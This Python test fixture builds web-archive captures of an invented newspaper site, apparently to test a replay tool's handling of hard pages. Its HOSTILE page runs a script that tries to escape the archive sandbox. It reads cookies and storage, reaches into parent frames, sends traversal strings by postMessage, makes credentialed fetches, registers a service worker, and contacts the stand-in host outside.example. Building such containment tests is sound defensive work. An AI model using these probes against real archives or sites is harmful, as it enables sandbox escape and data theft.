"""A small newspaper of pages that are hard to replay, as captures: all invented.

Takes   a MadeHome. Gives: what each page shows when it is whole. Writes: WARCs of the home.
"""

from __future__ import annotations

import json
import struct
import zlib

from replay_maker import MadeHome

TIME = "20180830020500"
SITE = "http://paper.example"
OUTSIDE = "http://outside.example"


def png(red: int, green: int, blue: int, size: int = 8) -> bytes:
    """Draw a square of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\0" + bytes((red, green, blue)) * size) * size
    head = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


FRONT = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"><title>渠水日报</title>
<link rel="dns-prefetch" href="//outside.example"><link rel="preconnect" href="{OUTSIDE}">
<link rel="stylesheet" href="{SITE}/css/main.css"><script src="{OUTSIDE}/tracker.js"></script></head>
<body background="bg.png" onload="document.title='scripts'">
<h1 id="head">渠水流过十八城</h1>
<img id="plain" src="/img/1.png"><img id="set" src="/img/1.png" srcset="/img/2.png 1x, {OUTSIDE}/x.png 3x">
<picture><source srcset="/img/2.png"><img id="picture" src="{OUTSIDE}/y.png"></picture>
<img id="lazy" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/img/1.png">
<img id="native" loading="lazy" src="/img/1.png">
<img id="away" src="{OUTSIDE}/pixel.gif"><iframe id="inner" src="/frame.html"></iframe>
<iframe srcdoc="&lt;p id=doc&gt;文档&lt;/p&gt;&lt;img src='{OUTSIDE}/doc.gif'&gt;"></iframe>
<p style="background: url('{OUTSIDE}/style.png')">段</p>
<svg width="9" height="9"><image href="{SITE}/img/1.png" width="9" height="9"/></svg>
<form action="{OUTSIDE}/send"><input name="q"><button id="send">发</button></form>
<a id="next" href="/2.html">下一版</a><a id="out" href="{OUTSIDE}/" ping="{OUTSIDE}/ping">站外</a>
<noscript><p id="noscript">无脚本</p></noscript></body></html>"""

SCRIPTED = f"""<!doctype html><html><head><meta charset="utf-8"><title>脚本页</title>
<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests"></head><body>
<p id="text">空</p><p id="xhr">空</p><p id="log"></p><img id="made"><div id="inner"></div><p id="worker">空</p>
<script>
const log = (word) => document.getElementById("log").append(word + " ");
fetch("/data/a.json?x=1").then((a) => a.json()).then((a) => {{ document.getElementById("text").textContent = a.text; }});
const ask = new XMLHttpRequest(); ask.open("GET", "{SITE}/data/b.txt"); ask.setRequestHeader("X-Requested-With", "x");
ask.onload = () => {{ document.getElementById("xhr").textContent = ask.responseText; }}; ask.send();
document.getElementById("made").src = "/img/2.png";
document.getElementById("inner").innerHTML = '<img id="deep" src="{SITE}/img/1.png"><img src="{OUTSIDE}/i.gif">';
document.cookie = "a=1"; localStorage.setItem("k", "v"); log(document.cookie + localStorage.getItem("k"));
try {{ new WebSocket("ws://outside.example/live").onerror = () => log("ws-closed"); }} catch (e) {{ log("ws-threw"); }}
navigator.serviceWorker.register("/sw.js")
  .then(() => log("sw-registered"), () => log("sw-refused"));
new Image().src = "{OUTSIDE}/beacon.gif"; navigator.sendBeacon("{OUTSIDE}/beacon");
fetch("{OUTSIDE}/api").catch(() => log("fetch-failed")).then((a) => a && !a.ok && log("fetch-404"));
const sheet = document.createElement("link"); sheet.rel = "preconnect"; sheet.href = "{OUTSIDE}"; document.head.append(sheet);
const worker = new Worker("/worker.js"); worker.onmessage = (m) => {{ document.getElementById("worker").textContent = m.data; }};
</script></body></html>"""

# Tries, with what the browser itself has, all that no page of the archive may do; tells what was reached.
ATTEMPTS = """
{
const HOME = "%HOME%", OUTSIDE = "http://outside.example", got = [];
const attempt = async (name, act) => {
  try { const reached = await act(); if (reached) got.push(name + "=" + reached); } catch { /* refused, as it must be */ }
};
(async () => {
  await attempt("cookie", () => document.cookie.includes("secret") && document.cookie);
  await attempt("parent", () => top.document.body.textContent.length);
  await attempt("storage", () => localStorage.getItem("secret"));
  await attempt("database", () => new Promise((yes, no) => {
    const opened = indexedDB.open("x"); opened.onsuccess = () => yes("opened"); opened.onerror = no;
  }));
  await attempt("opener", () => window.opener && window.opener.document.body.textContent.length);
  await attempt("title", () => top.document.title);
  for (const lie of ["/search", "//outside.example/", "javascript:alert(1)", "/web/20180830020500ms_/http://a/../../../../search",
    "/web/20180830020500ms_/https://%2e%2e/%2e%2e/%2e%2e/series/x"]) {
    for (const above of [parent, top]) await attempt("message", () => above.postMessage({ lianzai: lie }, "*"));
  }
  for (const place of ["/", "/static/style.css", "/cdx?url=a", "/lang?lang=en&to=/web/", "/search?q=a", "/feed.atom"]) {
    await attempt("read " + place, async () => (await (await fetch(HOME + place)).text()).length);
    await attempt("send " + place, async () => (await fetch(HOME + place, { mode: "no-cors", credentials: "include" })).type);
  }
  // It may ask below /web/, for its own pictures lie there; the pages of ours there it cannot read.
  await attempt("read calendar", async () => (await (await fetch(HOME + "/web/*/")).text()).length);
  await attempt("live", async () => (await fetch(OUTSIDE + "/live", { mode: "no-cors" })).type);
  await attempt("socket", () => new Promise((yes, no) => {
    const s = new WebSocket("ws://outside.example/socket"); s.onopen = () => yes("open"); s.onerror = no;
  }));
  await attempt("worker", async () => {
    const script = HOME + "/web/20180830020500da_/http://paper.example/sw.js";
    return (await navigator.serviceWorker.register(script)).scope;
  });
  await attempt("popup", () => open(OUTSIDE + "/popup"));
  await attempt("top", () => { top.location.href = OUTSIDE + "/top"; });
  for (const markup of ["<img src=O/img>", "<link rel=stylesheet href=O/css>", "<link rel=prefetch href=O/prefetch>",
    "<iframe src=O/frame></iframe>", "<object data=O/object></object>", "<video src=O/video></video>",
    "<svg><image href=O/svg /></svg>", "<p style='background:url(O/style)'>", "<embed src=O/embed>"]) {
    document.body.insertAdjacentHTML("beforeend", markup.replace("O", OUTSIDE));
  }
  await attempt("script", () => new Promise((yes, no) => {
    const script = document.createElement("script");
    script.src = OUTSIDE + "/script"; script.onload = () => yes("ran"); script.onerror = no; document.body.append(script);
  }));
  await attempt("import", () => import(OUTSIDE + "/module"));
  console.log("%NAME% tried all and got [" + got.join(", ") + "]");
  await attempt("form", () => {
    const form = document.createElement("form");
    form.innerHTML = "<input name=a>"; form.action = OUTSIDE + "/form"; document.body.append(form); form.submit();
  });
  location.href = OUTSIDE + "/leave";
})();
}
"""

HOSTILE = f"""<!doctype html><meta charset="utf-8"><title>恶意页</title><body><script>
const code = {json.dumps(ATTEMPTS)}.replaceAll("%HOME%", location.protocol + "//" + location.host);
const bare = document.createElement("iframe"); // a page in which our script never ran
bare.srcdoc = "<body><script>" + code.replaceAll("%NAME%", "inner") + "<" + "/script>";
document.body.append(bare);
document.body.append(Object.assign(document.createElement("script"), {{ textContent: code.replaceAll("%NAME%", "outer") }}));
</script>"""

FONT_FACE = "@font-face{font-family:x;src:url(/font/x.woff2)}"


def hard_pages(maker: MadeHome) -> None:
    """Put all of them into a WARC."""
    writer = maker.file()
    maker.put(writer, f"{SITE}/", TIME, FRONT.encode("gbk"), mime="text/html")
    maker.put(
        writer,
        f"{SITE}/2.html",
        TIME,
        '<meta charset="utf-8"><title>二版</title><p id="second">二版'.encode(),
        mime="text/html",
    )
    maker.put(
        writer,
        f"{SITE}/frame.html",
        TIME,
        f'<base href="{SITE}/img/"><p id="framed">框</p><img src="1.png"><a id="stay" href="/2.html">留</a>'.encode(),
    )
    maker.put(
        writer,
        f"{SITE}/css/main.css",
        TIME,
        f'@import "more.css"; {FONT_FACE} body{{font-family:x}} #head{{background:url({OUTSIDE}/bg.png)}}'.encode(),
        mime="text/css",
    )
    maker.put(writer, f"{SITE}/css/more.css", TIME, b"#head{color:rgb(1,2,3)}", mime="text/plain")
    maker.put(writer, f"{SITE}/img/1.png", TIME, png(200, 30, 30), mime="image/png")
    maker.put(writer, f"{SITE}/img/2.png", TIME, png(30, 200, 30, 16), mime="image/png")
    maker.put(writer, f"{SITE}/bg.png", TIME, png(250, 250, 240), mime="image/png")
    maker.put(writer, f"{SITE}/script.html", TIME, SCRIPTED.encode())
    maker.put(writer, f"{SITE}/data/a.json?x=1", TIME, '{"text": "脚本取来的文字"}'.encode(), mime="application/json")
    maker.put(writer, f"{SITE}/data/b.txt", TIME, "又一段".encode(), mime="text/plain; charset=utf-8")
    maker.put(
        writer,
        f"{SITE}/worker.js",
        TIME,
        b"fetch('/data/b.txt').then((a) => a.text()).then((t) => postMessage(t));",
        mime="text/javascript",
    )
    maker.put(writer, f"{SITE}/sw.js", TIME, b"self.addEventListener('fetch', () => {});", mime="text/javascript")
    maker.put(writer, f"{SITE}/hostile.html", TIME, HOSTILE.encode())
    maker.put(writer, f"{SITE}/refresh.html", TIME, b'<meta http-equiv="refresh" content="0; url=/2.html"><p>on')
    maker.put(
        writer, f"{SITE}/leave.html", TIME, f'<meta http-equiv="refresh" content="0; url={OUTSIDE}/meta"><p>on'.encode()
    )
    maker.put(
        writer,
        f"{SITE}/frameset.html",
        TIME,
        b'<frameset cols="50%,*"><frame name="left" src="/frame.html"><frame name="right" src="/2.html"></frameset>',
    )
    writer.close()
